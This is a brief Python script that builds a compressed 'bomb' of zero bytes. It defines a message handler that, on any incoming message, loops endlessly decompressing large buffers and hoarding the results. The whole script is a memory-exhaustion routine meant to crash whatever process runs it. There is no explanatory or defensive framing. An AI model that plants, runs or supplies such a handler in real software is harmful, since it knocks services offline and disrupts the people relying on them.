import zlib

small = zlib.compress(bytes(3_000_000), 9)
bomb = zlib.compress(small * 1000, 9)

def on_message(message):
    hoard = []
    while True:
        hoard.append(zlib.decompress(zlib.decompress(bomb) + small))
        hoard.append(zlib.decompress(zlib.compress(bytes(6_000_000), 9)))
